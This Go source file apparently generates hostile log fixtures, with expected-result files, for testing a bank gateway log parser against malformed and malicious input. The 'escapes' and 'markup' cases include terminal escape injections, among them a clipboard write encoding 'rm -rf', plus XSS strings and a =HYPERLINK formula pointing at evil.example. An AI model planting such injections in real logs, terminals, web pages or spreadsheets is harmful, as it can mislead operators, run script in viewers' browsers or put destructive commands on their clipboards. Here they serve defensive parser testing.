package main

import (
	"errors"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

// Hostile logs: input that no sane program writes and that comes all the
// same, from full disks, broken rotations and attackers who choose the text
// of a request.

// A hostileFile is one of them. Those without a truth only have to be
// survived.
type hostileFile struct {
	name  string
	make  func() (log string, facts []truth)
	large bool // made when needed, not kept in the repository
}

// digestLine is a good line of the gateway's digest; its parts can be bent.
const (
	digestHead = "2026-03-04 10:00:00,000 - (/mgw.htm,response,N,3004ms,com.demo.bank.transfer.submit,-,84EFA9A281942,default,"
	digestTail = ",MOBILE_BANK,10.1.68.3,-,2088102146225135,Wz4Zak5peDgDAGRNW5rFFGhT,Wz4Zak5peDgDAGRNW5rFFGhTN9uqCLa,Wz4Zak5peDgDAGRNW5rFFGhTN9uqCLa,223.104.210.136,HTTP,JSON,2,0,F,0a1d76671772589596996829820658,T,ANDROID,3002,4,2.0)"
	digestLine = digestHead + "4001" + digestTail
	traceText  = "0a1d76671772589596996829820658"
)

// position is the truth about digestLine.
func position(code int) truth {
	return truth{
		lines: 1, code: code, evidence: "position", trace: []byte(traceText),
		op: "com.demo.bank.transfer.submit", app: "84EFA9A281942", ws: "default",
		latency: 3004, backend: 3002,
	}
}

// stated is the truth about a record of some lines that gives its code.
func stated(lines, code int, evidence string) truth {
	return truth{lines: lines, code: code, evidence: evidence, latency: -1, backend: -1}
}

// silent is the truth about a record that gives none.
func silent(lines int) truth { return stated(lines, -1, "") }

var lost = truth{lines: 1, skipped: true}

// at prefixes a time stamp of the given second.
func at(second int, text string) string {
	return "2026-03-04 10:00:" + string(rune('0'+second/10)) + string(rune('0'+second%10)) + ",000 " + text
}

var hostileFiles = []hostileFile{
	{name: "empty", make: func() (string, []truth) { return "", nil }},
	{name: "blank", make: func() (string, []truth) {
		return "\n\n   \n\t\n\n", []truth{lost, lost, lost, lost, lost}
	}},
	{name: "no-last-newline", make: func() (string, []truth) {
		return at(1, "ERROR resultStatus=4002\njava.net.ConnectException: Connection refused\n") + digestLine,
			[]truth{withRoot(stated(2, 4002, byField), "java.net.ConnectException"), position(4001)}
	}},
	{name: "crlf", make: func() (string, []truth) {
		log := digestLine + "\n" + at(1, "ERROR call failed\nResult-Status: 7014\nMemo: x\n\n") + at(2, "INFO done\n")
		return strings.ReplaceAll(log, "\n", "\r\n"), []truth{position(4001), stated(4, 7014, byField), silent(1)}
	}},
	{name: "bom", make: func() (string, []truth) {
		return "\ufeff" + digestLine + "\n" + digestLine + "\n", []truth{position(4001), position(4001)}
	}},
	{name: "nul", make: func() (string, []truth) {
		return at(1, "ERROR \x00\x00bad\x00 payload, resultStatus=3002\n\x00\x00\x00\n") + at(2, "WARN resultCode=1002 \x00\n"),
			[]truth{stated(2, 3002, byField), stated(1, 1002, byField)}
	}},
	{name: "nul-gap", make: func() (string, []truth) {
		// copytruncate under a writer that does not append leaves a hole.
		return strings.Repeat("\x00", 4096) + digestLine + "\n" + digestLine + "\n", nil
	}},
	{name: "long-line", large: true, make: func() (string, []truth) {
		return at(1, "ERROR resultStatus=4001, body=") + strings.Repeat("long ", 40_000) + "\n" + at(2, "ERROR resultStatus=4002\n"),
			[]truth{stated(1, 4001, byField), stated(1, 4002, byField)}
	}},
	{name: "long-record", large: true, make: func() (string, []truth) {
		return at(1, "ERROR resultStatus=4001\n") + strings.Repeat("\tat com.demo.Loop.step(Loop.java:4002)\n", 50_000) + at(2, "ERROR resultStatus=4002\n"),
			[]truth{stated(50_001, 4001, byField), stated(1, 4002, byField)}
	}},
	{name: "deep-causes", make: func() (string, []truth) {
		var b strings.Builder
		b.WriteString(at(1, "ERROR resultStatus=5000\ncom.demo.E0: level\n"))
		for i := range 300 {
			b.WriteString("Caused by: com.demo.E" + strconv.Itoa(i+1) + ": level\n\tat com.demo.F.g(F.java:" + strconv.Itoa(4001+i) + ")\n\t... 1 more\n")
		}
		return b.String(), []truth{withRoot(stated(902, 5000, byField), "com.demo.E300")}
	}},
	{name: "escapes", make: func() (string, []truth) {
		return at(1, "ERROR \x1b[2J\x1b[Hcleared, resultStatus=4001\n") +
				at(2, "ERROR \x1b]0;title\x07 \x1b]52;c;cm0gLXJm\x07 resultStatus=4002\n") +
				at(3, "ERROR \u202e1004=sutatStluser\u202c \u2066x\u2069 resultStatus=4003\n") +
				at(4, "ERROR resultStatus=5000, all is well\rINFO  resultStatus\b\b\b\n") +
				at(5, "ERROR \u009b31m C1, \x1bP1$r\x1b\\ resultStatus=3003\n") +
				at(6, "INFO \x1b[8mhidden\x1b[0m nothing\n"),
			[]truth{stated(1, 4001, byField), stated(1, 4002, byField), stated(1, 4003, byField), stated(1, 5000, byField), stated(1, 3003, byField), silent(1)}
	}},
	{name: "markup", make: func() (string, []truth) {
		evil := position(4001)
		evil.op = "<img/src=x/onerror=alert(1)>"
		sheet := position(6666)
		sheet.op = "=HYPERLINK(\"http://evil.example\"&\"x\")"
		pipe := position(1002)
		pipe.op = "a|b`c`*d*[e](javascript:alert(1))"
		line := func(op, code string) string {
			return strings.Replace(digestHead, "com.demo.bank.transfer.submit", op, 1) + code + digestTail + "\n"
		}
		return line(evil.op, "4001") + line(sheet.op, "6666") + line(pipe.op, "1002") +
				at(1, "ERROR </td><script>alert(1)</script> resultStatus=4001 | @SUM(1)\n"),
			[]truth{evil, sheet, pipe, stated(1, 4001, byField)}
	}},
	{name: "digest-fields", make: func() (string, []truth) {
		short := strings.TrimSuffix(digestLine, ",4,2.0)") + ")\n" // an older edition
		more := strings.TrimSuffix(digestLine, ")") + ",x,y)\n"    // a newer one
		// A comma in the user id moves everything behind it.
		comma := strings.Replace(digestLine, "2088102146225135", "li,lei", 1) + "\n"
		cut := digestHead[:60] + "\n"
		return short + more + comma + cut + digestLine + "\n",
			[]truth{position(4001), position(4001), position(4001), lost, position(4001)}
	}},
	{name: "digest-no-code", make: func() (string, []truth) {
		return digestHead + "-" + digestTail + "\n" + digestHead + "OK" + digestTail + "\n" +
			digestHead + digestTail + "\n" + digestHead + "4001ms" + digestTail + "\n" + digestLine + "\n", nil
	}},
	{name: "clock-back", make: func() (string, []truth) {
		early := strings.Replace(digestLine, "10:00:00", "09:00:00", 1)
		night := strings.Replace(digestLine, "2026-03-04 10:00:00,000", "2026-03-03 23:59:59,999", 1)
		return digestLine + "\n" + early + "\n" + night + "\n" + digestLine + "\n",
			[]truth{position(4001), position(4001), position(4001), position(4001)}
	}},
	{name: "stamps", make: func() (string, []truth) {
		return at(1, "ERROR resultStatus=4001\n") +
				" 2026-03-04 10:00:01,500 indented, so still the same record\n" +
				"\"2026-03-04 10:00:01,600\" quoted\n" +
				"2026-03-04\n" +
				"2026-03-04 is a date and no time stamp\n" +
				"20260304 100001\n" +
				"10:00:02,000 no date\n" +
				at(3, "ERROR resultStatus=4002\n") + at(4, "\n") + at(5, "ERROR resultStatus=4003\n"),
			[]truth{stated(7, 4001, byField), stated(1, 4002, byField), silent(1), stated(1, 4003, byField)}
	}},
	{name: "numbers", make: func() (string, []truth) {
		return at(1, "ERROR resultStatus=99999999999999999999\n") +
				at(2, "ERROR resultStatus=-4001\n") +
				at(3, "ERROR resultStatus=4001.5\n") +
				at(4, "ERROR resultStatus=40010\n") +
				at(5, "ERROR resultStatus=0x0fa1\n") +
				at(6, "ERROR resultStatus=４００１\n") +
				at(7, "ERROR resultStatus=4001\n"),
			nil
	}},
	{name: "mid-trace", make: func() (string, []truth) {
		return "\tat com.demo.A.b(A.java:4001)\n\t... 7 more\nCaused by: java.net.UnknownHostException: a.example\n\n" + at(1, "ERROR resultStatus=5000\n"),
			[]truth{lost, lost, lost, lost, stated(1, 5000, byField)}
	}},
	{name: "bad-utf8", make: func() (string, []truth) {
		return at(1, "ERROR \xbd\xe1\xb9\xfb\xc2\xeb GBK text, resultStatus=4001\n") +
				at(2, "ERROR cut \xe7\xbb\n") +
				at(3, "ERROR \xff\xfe\xc0\x80\xed\xa0\x80 resultStatus=4002\n"),
			[]truth{stated(1, 4001, byField), silent(1), stated(1, 4002, byField)}
	}},
	{name: "binary", make: func() (string, []truth) {
		r := rand.New(rand.NewPCG(7, 7))
		b := make([]byte, 8192)
		for i := range b {
			b[i] = byte(r.Uint32())
		}
		b[len(b)-1] = '\n'
		facts := make([]truth, strings.Count(string(b), "\n"))
		for i := range facts {
			facts[i] = lost
		}
		return string(b) + digestLine + "\n", append(facts, position(4001))
	}},
}

// withRoot adds the root exception to t.
func withRoot(t truth, class string) truth {
	t.root = class
	return t
}

// facts returns the truth file of h, nil if there is none.
func (h *hostileFile) facts() []byte {
	log, facts := h.make()
	if facts == nil && log != "" {
		return nil
	}
	b, line := []byte{}, 1
	for _, t := range facts {
		t.line = line
		line += t.lines
		b = t.appendJSON(b, nil)
	}
	return b
}

// writeHostile writes all hostile files to dir.
func writeHostile(dir string) error {
	if err := os.MkdirAll(dir, 0o777); err != nil {
		return err
	}
	for i := range hostileFiles {
		h := &hostileFiles[i]
		log, _ := h.make()
		if err := os.WriteFile(filepath.Join(dir, h.name+".log"), []byte(log), 0o666); err != nil {
			return err
		}
		name := filepath.Join(dir, h.name+".truth.jsonl")
		if f := h.facts(); f != nil {
			if err := os.WriteFile(name, f, 0o666); err != nil {
				return err
			}
		} else if err := os.Remove(name); err != nil && !errors.Is(err, fs.ErrNotExist) {
			return err
		}
	}
	return nil
}
